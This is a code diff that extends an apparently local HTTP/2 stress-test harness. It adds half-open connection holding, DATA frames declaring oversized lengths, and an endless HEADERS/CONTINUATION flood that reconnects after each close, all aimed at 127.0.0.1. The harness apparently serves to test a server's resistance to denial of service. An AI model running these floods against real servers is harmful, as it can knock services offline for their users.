@@ -13,6 +13,9 @@ input ends, or for that many seconds. It speaks to this machine only. Its kinds:
 - ``ping``, ``settings``, ``empty_data``: floods of these frames beside one request.
 - ``big_headers``: requests with as much metadata as fits.
 - ``idle``: connections without any request.
+- ``half_open``: connections that never say a word of HTTP/2, half of them closed for writing.
+- ``oversize``: messages that say that they have so many bytes, over and over.
+- ``headers_flood``: a block of headers of so many bytes without an end, over and over.
 - ``deaf``: as ``last_byte``, and nothing that the server says is read once all is sent.
 """
 
@@ -34,7 +37,9 @@ from h2.exceptions import ProtocolError
 
 FRAME_BYTES = 16 * 1024
 SETTLE_S = 1.0
-FLOODS = {"empty", "garbage", "reset", "ping", "settings", "empty_data"}
+FLOODS = {"empty", "garbage", "reset", "ping", "settings", "empty_data", "oversize"}
+HEADERS, CONTINUATION = 1, 9
+HEADER_BYTES = b"\x00\x01a\x01b"  # one header, as HPACK writes it without an index
 
 
 @dataclass
@@ -125,12 +130,14 @@ class Wire:
             if time.monotonic() - quiet_since > SETTLE_S or not any(self.left.values()):
                 return
 
-    def flood(self, kind: str) -> None:
+    def flood(self, kind: str, size: int) -> None:
         """Send one more of a flood's requests or frames."""
         if kind == "empty":
             self.begin(end=True)
         elif kind == "garbage":
             self.h2.send_data(self.begin(), struct.pack(">BI", 0, 9) + b"\xff" * 9, end_stream=True)
+        elif kind == "oversize":
+            self.h2.send_data(self.begin(), struct.pack(">BI", 0, size) + b"x")
         elif kind == "reset":
             self.h2.reset_stream(self.begin())
         elif kind == "ping":
@@ -170,7 +177,7 @@ def attack(wire: Wire, kind: str, streams: int, size: int, held: Callable[[], No
         try:
             if kind in FLOODS:
                 for _ in range(20):
-                    wire.flood(kind)
+                    wire.flood(kind, size)
                 wire.send()
             elif kind == "dribble":
                 for stream in list(wire.left):
@@ -184,6 +191,36 @@ def attack(wire: Wire, kind: str, streams: int, size: int, held: Callable[[], No
             wire.read(0.001 if kind in FLOODS else 0.1)
 
 
+def half_open(port: int, streams: int, held: Callable[[], None], until: float) -> None:
+    """Open connections that say nothing, and keep them."""
+    socks = [socket.create_connection(("127.0.0.1", port)) for _ in range(streams)]
+    for sock in socks[::2]:
+        sock.shutdown(socket.SHUT_WR)
+    held()
+    time.sleep(max(0.0, until - time.monotonic()))
+
+
+def headers_flood(port: int, size: int, held: Callable[[], None], until: float) -> None:
+    """Send headers that never end, on a new connection whenever the last was closed."""
+    headers = HEADER_BYTES * (FRAME_BYTES // len(HEADER_BYTES))
+    while time.monotonic() < until:
+        try:
+            sock = socket.create_connection(("127.0.0.1", port))
+            sock.settimeout(2.0)
+            sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, b""))
+            for number in range(size // len(headers)):
+                sock.sendall(frame(CONTINUATION if number else HEADERS, 1, headers))
+                held()
+        except OSError:
+            continue
+        sock.close()
+
+
+def frame(kind: int, stream: int, data: bytes) -> bytes:
+    """Return an HTTP/2 frame without flags."""
+    return len(data).to_bytes(3, "big") + struct.pack(">BBI", kind, 0, stream) + data
+
+
 def main() -> None:
     """Attack until standard input ends."""
     port, path, kind, *numbers = sys.argv[1:]
@@ -193,16 +230,21 @@ def main() -> None:
     wires: list[Wire] = []
 
     def run() -> None:
+        if kind == "half_open":
+            return half_open(int(port), streams, waiting.release, until)
+        if kind == "headers_flood":
+            return headers_flood(int(port), size, waiting.release, until)
         try:
             wire = Wire(int(port), path, until)
         except OSError:
             waiting.release()
-            return
+            return None
         wires.append(wire)
         try:
             attack(wire, kind, streams, size, waiting.release)
         finally:
             waiting.release()
+        return None
 
     for _ in range(connections):
         threading.Thread(target=run, daemon=True).start()
